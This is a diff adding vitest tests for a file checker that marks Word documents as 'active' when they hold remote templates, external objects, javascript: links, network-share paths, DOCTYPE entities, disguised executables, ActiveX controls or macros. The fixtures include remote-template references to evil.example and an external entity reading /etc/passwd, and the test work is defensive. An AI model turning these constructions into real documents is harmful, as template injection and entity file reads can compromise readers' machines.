@@ -2,6 +2,7 @@
 import { expect, test } from 'vitest'
 import { fileLimits } from '#schemas/files.ts'
 import { jpeg, png, pngThatSays } from '../pictures/files.ts'
+import { judge } from '../../backend/kit/files/check-kind.ts'
 import { doc, docx, kindOf, pdf, wordParts } from './documents.ts'
 
 const withPart = (name: string, content: string | Buffer) => docx({ ...wordParts, [name]: content })
@@ -73,4 +74,72 @@ test('a list of sectors that leads in a circle ends', async () => {
   const circle = doc('WordDocument')
   circle.writeUInt32LE(1, 516)
   expect(await kindOf('a.doc', circle)).toBe(null)
+})
+
+const relations = (...references: string[]) =>
+  withPart('word/_rels/document.xml.rels', `<?xml version="1.0"?><Relationships>${references.join('')}</Relationships>`)
+const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const reference = (type: string, target: string, mode = 'External') =>
+  `<Relationship Id="r1" Type="${kinds}/${type}" Target="${target}" TargetMode="${mode}"/>`
+const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
+
+test.for<[what: string, content: () => Promise<Buffer>]>([
+  ['a template from elsewhere', () => relations(reference('attachedTemplate', 'https://evil.example/a.dotm'))],
+  ['a picture from elsewhere', () => relations(reference('image', 'https://evil.example/pixel.png'))],
+  ['an object from elsewhere', () => relations(reference('oleObject', 'https://evil.example/a.html!'))],
+  ['an object in it', () => relations(reference('oleObject', 'embeddings/o.bin', 'Internal'))],
+  ['a web page in it', () => relations(reference('aFChunk', 'a.html', 'Internal'))],
+  ['a link to a file of the reader', () => relations(reference('hyperlink', 'file://server/share/a'))],
+  ['a link to a program', () => relations(reference('hyperlink', 'javascript:alert(1)'))],
+  ['a share as an own part', () => relations(reference('image', '\\\\server\\share\\a.png', 'Internal'))],
+  ['a mode in numbers', () => relations(reference('image', 'https://evil.example/a', '&#69;xternal'))],
+  ['a mode that there is not', () => relations(reference('image', 'media/a.png', 'external'))],
+  [
+    'a reference in other quotes',
+    () => relations(`<x:Relationship TargetMode = 'External' Target='//evil.example/a' Type='${kinds}/image' />`),
+  ],
+  ['a reference that cannot be read', () => relations('<Relationship Target=a TargetMode=External/>')],
+  [
+    'references in another encoding',
+    () => withPart('word/_rels/settings.xml.rels', utf16(reference('attachedTemplate', 'https://evil.example/a'))),
+  ],
+  ['a document type', () => withPart('word/styles.xml', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>')],
+  ['a document type far behind', () => withPart('word/styles.xml', `<!--${'x'.repeat(200_000)}--><!DOCTYPE x><x/>`)],
+  ['a document type in another encoding', () => withPart('customXml/item1.xml', utf16('<!DOCTYPE x><x/>'))],
+  ['an embedded table', () => withPart('word/embeddings/table.xlsx', 'x')],
+  ['an archive under another name', async () => withPart('word/media/image1.png', await archive())],
+  ['a program under another name', () => withPart('word/media/image1.png', 'MZ\x90\0')],
+  ['an old document under another name', () => withPart('word/media/a.emf', doc('WordDocument'))],
+  ['a control', () => withPart('word/activeX/activeX1.xml', '<x/>')],
+  ['macros', () => withPart('word/vbaProject.bin', 'macros')],
+  [
+    'macros in the list of parts beside a plain document',
+    () =>
+      withPart(
+        '[Content_Types].xml',
+        `${String(wordParts['[Content_Types].xml'])}<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`,
+      ),
+  ],
+])('a Word document with %s is active', async ([, content]) => {
+  expect(await judge('docx', await content())).toBe('active')
+})
+
+test('an old Word document with a file in it is active', async () => {
+  expect(await judge('doc', doc('WordDocument', '\u0001Ole10Native'))).toBe('active')
+  expect(await judge('doc', doc('WordDocument', 'Macros'))).toBe('active')
+})
+
+test('links that people follow, pictures and fonts in a Word document are fine', async () => {
+  const content = await docx({
+    ...wordParts,
+    'word/media/image1.png': await png(),
+    'word/fonts/font1.odttf': Buffer.from([1, 2, 3]),
+    'word/_rels/document.xml.rels': `<Relationships xmlns="x">
+      ${reference('hyperlink', 'https://solace.example/?a=1&amp;b=2')}
+      ${reference('hyperlink', 'mailto:theo@example.com')}
+      <Relationship Id="rId2" Type="${kinds}/image" Target="media/image1.png"/>
+      <Relationship Id="rId3" Type="${kinds}/styles" Target="/word/styles.xml"></Relationship>
+    </Relationships>`,
+  })
+  expect(await judge('docx', content)).toBe('whole')
 })
